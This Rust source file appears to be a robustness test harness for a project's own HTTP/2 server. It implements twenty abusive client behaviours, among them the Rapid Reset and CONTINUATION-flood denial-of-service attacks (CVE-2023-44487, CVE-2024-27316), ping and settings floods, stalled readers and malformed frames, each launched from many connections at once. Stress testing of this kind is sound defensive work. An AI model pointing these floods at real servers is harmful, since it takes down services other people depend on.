//! Clients that break all rules, many at a time.

use std::{io, net::SocketAddr, time::Duration};

use fastrand::Rng;
use oncelog_harness::frames::{self, Peer, code, flag, frame, kind};
use tokio::{io::AsyncReadExt as _, task::JoinSet, time::timeout};

use crate::Result;

/// The frames of a flood: more than any queue of the server holds.
const FLOOD: usize = 20_000;
/// How long the server may take to handle one attacker.
const ATTACK_MAX: Duration = Duration::from_secs(60);
/// How long a peer that does not read sends until nothing more is accepted.
const SEND_MAX: Duration = Duration::from_secs(1);
/// The streams of a peer that opens many.
const STREAMS: u32 = 10;
/// The announced length of a message of which only a part is sent.
const PART_OF_BYTES: u32 = 4096;
/// SETTINGS_INITIAL_WINDOW_SIZE: nothing may be sent.
const NO_WINDOW: (u16, u32) = (4, 0);
const WINDOW_MAX: u32 = 0x7fff_ffff;

/// The behaviour of an attacker.
#[derive(Clone, Copy, Debug)]
pub enum Attack {
    /// CVE-2023-44487.
    RapidReset,
    /// The server is made to reset streams.
    ServerResets,
    /// CVE-2024-27316.
    Continuations,
    EmptyData,
    Settings,
    Pings,
    PingsNeverRead,
    AnswersNeverRead,
    MessagesInPart,
    HeadersInPart,
    HugeHeader,
    OversizedFrame,
    HugeMessage,
    Truncated,
    RandomFrames,
    RandomBytes,
    Goaway,
    HalfPreface,
    Http1Garbage,
    ComeAndGo,
}

impl Attack {
    pub const ALL: [Self; 20] = [
        Self::RapidReset,
        Self::ServerResets,
        Self::Continuations,
        Self::EmptyData,
        Self::Settings,
        Self::Pings,
        Self::PingsNeverRead,
        Self::AnswersNeverRead,
        Self::MessagesInPart,
        Self::HeadersInPart,
        Self::HugeHeader,
        Self::OversizedFrame,
        Self::HugeMessage,
        Self::Truncated,
        Self::RandomFrames,
        Self::RandomBytes,
        Self::Goaway,
        Self::HalfPreface,
        Self::Http1Garbage,
        Self::ComeAndGo,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::ServerResets => "resets by the server",
            Self::Continuations => "continuations",
            Self::EmptyData => "empty data",
            Self::Settings => "settings",
            Self::Pings => "pings",
            Self::PingsNeverRead => "pings, never read",
            Self::AnswersNeverRead => "answers, never read",
            Self::MessagesInPart => "messages in part",
            Self::HeadersInPart => "headers in part",
            Self::HugeHeader => "huge header",
            Self::OversizedFrame => "oversized frame",
            Self::HugeMessage => "huge message",
            Self::Truncated => "truncated",
            Self::RandomFrames => "random frames",
            Self::RandomBytes => "random bytes",
            Self::Goaway => "goaway in mid-stream",
            Self::HalfPreface => "half a preface",
            Self::Http1Garbage => "garbage for HTTP/1.1",
            Self::ComeAndGo => "come and go",
        }
    }

    /// Attacks from `peers` connections at once. Attackers that hold something hold it until the last has
    /// started.
    pub async fn run(self, server: SocketAddr, peers: usize, random: &mut Rng) -> Result<()> {
        let mut attackers = JoinSet::new();
        for _ in 0..peers {
            let random = random.fork();
            attackers.spawn(timeout(ATTACK_MAX, self.attack(server, random)));
        }
        let mut held = Vec::new();
        while let Some(ended) = attackers.join_next().await {
            let Ok(ended) = ended? else {
                let seconds = ATTACK_MAX.as_secs();
                return Err(format!("{}: no end within {seconds} s", self.name()).into());
            };
            // The server may close at any byte; other code checks that it serves others.
            held.extend(ended.ok().flatten());
        }
        Ok(())
    }

    /// Returns the connection if it must be held.
    async fn attack(self, server: SocketAddr, mut random: Rng) -> io::Result<Option<Peer>> {
        let greet = || Peer::greet(server);
        let publish = |stream| frames::call(stream, "StreamingPublish");
        let stream = |round: usize| 2 * round as u32 + 1;
        let flood = async |bytes: &(dyn Fn(usize) -> Vec<u8> + Sync)| {
            greet().await?.flood(FLOOD, bytes).await;
            Ok(None)
        };
        match self {
            Self::RapidReset => {
                flood(&|round| {
                    let reset = frames::reset(stream(round), code::CANCEL);
                    [publish(stream(round)), reset].concat()
                })
                .await
            }
            Self::ServerResets => {
                flood(&|round| {
                    let update = frames::window_update(stream(round), WINDOW_MAX);
                    [publish(stream(round)), update].concat()
                })
                .await
            }
            Self::Continuations => {
                flood(&|round| match round {
                    0 => frame(
                        kind::HEADERS,
                        flag::NONE,
                        1,
                        &frames::call_fields("Publish"),
                    ),
                    _ => frame(kind::CONTINUATION, flag::NONE, 1, &frames::field("x", "y")),
                })
                .await
            }
            Self::EmptyData => {
                flood(&|round| match round {
                    0 => publish(1),
                    _ => frame(kind::DATA, flag::NONE, 1, &[]),
                })
                .await
            }
            Self::Settings => flood(&|_| frames::settings(&[(4, 65_535)])).await,
            Self::Pings => flood(&|_| frame(kind::PING, flag::NONE, 0, &[0; 8])).await,
            Self::PingsNeverRead => {
                let mut peer = greet().await?;
                let pings = frame(kind::PING, flag::NONE, 0, &[0; 8]).repeat(100);
                let send = async { while peer.send(&pings).await.is_ok() {} };
                // Ends when neither side has room for more, or when the server closes.
                _ = timeout(SEND_MAX, send).await;
                Ok(Some(peer))
            }
            Self::AnswersNeverRead => {
                let mut peer = Peer::greet_with(server, &[NO_WINDOW]).await?;
                peer.send(&frames::follow(1)).await?;
                let empty = frames::message(0, 0, b"").repeat(100);
                for number in 1..=STREAMS as usize {
                    let data = frame(kind::DATA, flag::NONE, stream(number), &empty);
                    peer.send(&[publish(stream(number)), data].concat()).await?;
                }
                Ok(Some(peer))
            }
            Self::MessagesInPart => {
                let mut peer = greet().await?;
                let part = frames::message(0, PART_OF_BYTES, b"part");
                for number in 0..STREAMS as usize {
                    let data = frame(kind::DATA, flag::NONE, stream(number), &part);
                    peer.send(&[publish(stream(number)), data].concat()).await?;
                }
                Ok(Some(peer))
            }
            Self::HeadersInPart => {
                let mut peer = greet().await?;
                let part = frame(
                    kind::HEADERS,
                    flag::NONE,
                    1,
                    &frames::call_fields("Publish"),
                );
                peer.send(&part).await?;
                Ok(Some(peer))
            }
            Self::HugeHeader => {
                let fields = frames::field("x", &"x".repeat(30_000));
                let header = [frames::call_fields("Publish"), fields].concat();
                let header = frame(kind::HEADERS, flag::END_HEADERS, 1, &header);
                greet().await?.attack(&header).await;
                Ok(None)
            }
            Self::OversizedFrame => {
                let header = frames::frame_header(0xff_ffff, kind::DATA, flag::NONE, 1);
                greet().await?.attack(&header).await;
                Ok(None)
            }
            Self::HugeMessage => {
                let message = frames::message(0, u32::MAX, &[0; 1000]);
                let data = frame(kind::DATA, flag::NONE, 1, &message);
                let bytes = [publish(1), data].concat();
                greet().await?.attack(&bytes).await;
                Ok(None)
            }
            Self::Truncated => {
                let whole = [frames::PREFACE, &frames::settings(&[]), &frames::follow(1)].concat();
                let part = &whole[..random.usize(..whole.len())];
                Peer::connect(server).await?.cut(part).await;
                Ok(None)
            }
            Self::RandomFrames => {
                let mut bytes = Vec::new();
                for _ in 0..100 {
                    let payload = vec![random.u8(..); random.usize(..200)];
                    let (stream, flags) = (random.u32(..8), random.u8(..));
                    bytes.extend(frame(random.u8(..12), flags, stream, &payload));
                }
                greet().await?.cut(&bytes).await;
                Ok(None)
            }
            Self::RandomBytes => {
                let mut bytes = vec![0; random.usize(1..5000)];
                random.fill(&mut bytes);
                Peer::connect(server).await?.cut(&bytes).await;
                Ok(None)
            }
            Self::Goaway => {
                let goaway = frame(kind::GOAWAY, flag::NONE, 0, &[0; 8]);
                let end = frame(kind::DATA, flag::END_STREAM, 1, &[]);
                let bytes = [publish(1), goaway, end].concat();
                greet().await?.cut(&bytes).await;
                Ok(None)
            }
            Self::HalfPreface => {
                let mut peer = Peer::connect(server).await?;
                peer.send(&frames::PREFACE[..random.usize(..frames::PREFACE.len())])
                    .await?;
                Ok(Some(peer))
            }
            Self::Http1Garbage => {
                let mut peer = Peer::connect(server).await?;
                peer.send(b"POST /publish HTTP/1.1\r\nhost: t\r\ncontent-length: -1\r\n\r\n")
                    .await?;
                peer.0.read_to_end(&mut Vec::new()).await?;
                Ok(None)
            }
            Self::ComeAndGo => {
                for _ in 0..STREAMS {
                    drop(Peer::connect(server).await?);
                }
                Ok(None)
            }
        }
    }
}
